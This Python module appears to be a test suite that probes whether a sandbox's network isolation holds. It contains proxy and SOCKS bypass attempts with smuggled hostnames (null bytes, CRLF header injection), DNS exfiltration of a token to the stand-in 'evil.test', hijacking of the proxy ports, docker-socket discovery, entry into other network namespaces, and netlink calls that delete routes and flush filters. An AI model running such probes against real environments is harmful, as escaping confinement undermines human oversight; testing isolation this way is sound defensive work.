"""Our own doors inside, and what lies around them: processes, namespaces, sockets of the machine."""

import ctypes
import os
import socket
import struct

import places
from rows import ALL, NAMED, REACHING, attempt
from wire import ask, by_connect, by_proxy, by_socks, direct, request, say

DOORS = (3128, 3129, 3153)
for host in (
    "127.0.0.1",
    "localhost",
    "[::1]",
    "0.0.0.0",
    "[::]",
    "127.1",
    "127.0.0.2",
    "198.19.0.1",
    "198.19.0.53",
    "[fd73:616e:6462:6f78:1::1]",
):
    for port in DOORS:
        attempt(f"the proxy asked for {host}:{port}", REACHING)(
            lambda token, host=host, port=port: by_connect(
                f"{host}:{port}", b"CONNECT 10.0.0.1:80 HTTP/1.1\r\n\r\n" + request("10.0.0.1", token)
            )
        )
for host in ("127.0.0.1", "::1", "198.19.0.1", "fd73:616e:6462:6f78:1::1"):
    attempt(f"the redirected port itself at {host}", REACHING)(
        lambda token, host=host: direct(host, 3129, request("10.0.0.1", token))
    )
    attempt(f"the port for names itself at {host}", REACHING)(
        lambda token, host=host: ask(host, f"{token}.evil.test", 1, 3153)
    )
attempt("a proxy in the proxy", REACHING)(
    lambda token: by_connect("127.0.0.1:3128", b"CONNECT 127.0.0.1:8000 HTTP/1.1\r\n\r\n" + request("x", token))
)

SOCKS_NAMES = [
    b"good.test\0.evil.test",
    b"evil.test\0good.test",
    b"good.test\r\nHost: evil.test",
    b"",
    b"\0",
    b"10.0.0.1",
    b"[10.0.0.1]",
    b"::ffff:10.0.0.1",
    b"evil.test:80",
    b"good.test@evil.test",
    b"good.test/evil.test",
    b"evil.test#good.test",
    b"*.good.test",
    b"x" * 255,
    b"\xff\xfe",
    b"evil.test.",
    b"EVIL.test",
    b" good.test",
    b"host.internal",
]
for name in SOCKS_NAMES:
    attempt(f"SOCKS5 to the name {name[:30]!r}", NAMED)(
        lambda token, name=name: by_socks(name, 80, request("good.test", token))
    )
for number, name in {2: "BIND", 3: "UDP ASSOCIATE", 0: "nothing", 255: "anything"}.items():
    attempt(f"SOCKS5 {name}", REACHING)(
        lambda token, number=number: by_socks("93.184.215.14", 80, token.encode(), number)
    )
attempt("SOCKS5 without a greeting", REACHING)(
    lambda token: by_proxy(b"\x05\x01\0\x01\x0a\0\0\x01\0\x50" + request("x", token))
)
attempt("SOCKS5 with a password", REACHING)(
    lambda token: by_proxy(b"\x05\x01\x02\x01\x04user\x04pass\x05\x01\0\x01\x0a\0\0\x01\0\x50" + request("x", token))
)
attempt("SOCKS5 all at once", REACHING)(
    lambda token: by_proxy(b"\x05\x01\0\x05\x01\0\x01\x0a\0\0\x01\0\x50" + request("x", token))
)
attempt("SOCKS5 of an unknown kind", REACHING)(
    lambda token: by_proxy(b"\x05\x01\0\x05\x01\0\x07\x0a\0\0\x01\0\x50" + request("x", token))
)
attempt("SOCKS5 for port 0", REACHING)(
    lambda token: by_proxy(b"\x05\x01\0\x05\x01\0\x01\x0a\0\0\x01\0\0" + request("x", token))
)
attempt("SOCKS4", REACHING)(lambda token: by_proxy(b"\x04\x01\0\x50\x0a\0\0\x01\0" + request("x", token)))
attempt("SOCKS4a", REACHING)(lambda token: by_proxy(b"\x04\x01\0\x50\0\0\0\x01user\0evil.test\0" + request("x", token)))
attempt("SOCKS4 BIND", REACHING)(lambda token: by_proxy(b"\x04\x02\0\x50\x0a\0\0\x01\0" + token.encode()))


def stolen(address, port, kind):
    """Takes a door's place, and says what came there; in a sandbox of one's own that leads nowhere."""

    def code(token):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, kind) as thief:
            thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            thief.bind((address, port))
            return "taken"

    return code


for address, port, kind in (
    ("127.0.0.1", 3128, socket.SOCK_STREAM),
    ("127.0.0.1", 3129, socket.SOCK_STREAM),
    ("::1", 3129, socket.SOCK_STREAM),
    ("127.0.0.1", 3153, socket.SOCK_DGRAM),
    ("::1", 3153, socket.SOCK_DGRAM),
):
    attempt(f"taking the place of {address}:{port}", REACHING)(stolen(address, port, kind))


@attempt("an abstract socket of the machine", ALL)
def abstract(token):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect("\0world-test-of-the-machine")
        return say(stream, token.encode())


@attempt("a socket file of the machine", ALL)
def socket_file(token):
    for path in (
        "/run/docker.sock",
        "/var/run/docker.sock",
        "/run/systemd/private",
        "/run/dbus/system_bus_socket",
        "/run/nscd/socket",
        "/run/world-test.socket",
    ):
        if os.path.exists(path):
            return f"there is {path}"


@attempt("networks of other processes", ALL)
def networks(token):
    seen = {
        os.readlink(f"/proc/{number}/ns/net")
        for number in os.listdir("/proc")
        if number.isdigit() and os.access(f"/proc/{number}/ns/net", os.R_OK)
    }
    return f"{len(seen)} networks" if len(seen) <= 1 else f"{places.REACHED}: {seen}"


@attempt("interfaces and addresses of the machine", ALL)
def interfaces(token):
    text = "".join(
        open(f"/proc/net/{name}").read()
        for name in ("dev", "route", "fib_trie", "if_inet6", "arp", "tcp", "udp")
        if os.path.exists(f"/proc/net/{name}")
    )
    found = [name for name in ("machine0", places.MACHINE_V4, places.MACHINE_PRIVATE, "2a0202f0") if name in text]
    return f"{places.REACHED}: {found}" if found else "nothing of the machine"


def call(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(number, *arguments)
    return os.strerror(ctypes.get_errno()) if result < 0 else places.REACHED


@attempt("entering the network of the first process", ALL)
def enter(token):
    descriptor = os.open("/proc/1/ns/net", os.O_RDONLY)
    own = os.stat("/proc/self/ns/net").st_ino == os.fstat(descriptor).st_ino
    answer = call(308, descriptor, 0x40000000)
    return "it is the own network" if own else answer


@attempt("leaving for a new network", ALL)
def leave(token):
    return call(272, 0x40000000)


@attempt("leaving for a new user namespace and network", ALL)
def leave_user(token):
    return call(272, 0x50000000)


def netlink(protocol, kind, flags, body):
    def code(token):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as link:
            link.settimeout(1)
            link.sendto(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body, (0, 0))
            answer = link.recv(4096)
            error = struct.unpack("i", answer[16:20])[0]
            return os.strerror(-error) if error else places.REACHED

    return code


# Powers over the network: a route to nowhere, an address, an interface, and filters that are gone.
attempt("taking the routes away", ALL)(netlink(0, 25, 5, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0)))
attempt("an address of one's own", ALL)(
    netlink(
        0,
        20,
        0x605,
        struct.pack("BBBBI", 2, 24, 0, 0, 1) + struct.pack("HH4sHH4s", 8, 1, b"\x0a\0\0\x05", 8, 2, b"\x0a\0\0\x05"),
    )
)
attempt("an interface of one's own", ALL)(netlink(0, 16, 0x605, struct.pack("BxHiII", 0, 0, 0, 0, 0)))
attempt("taking the filters away", ALL)(netlink(12, (10 << 8) | 2, 5, struct.pack("!BBH", 1, 0, 0)))
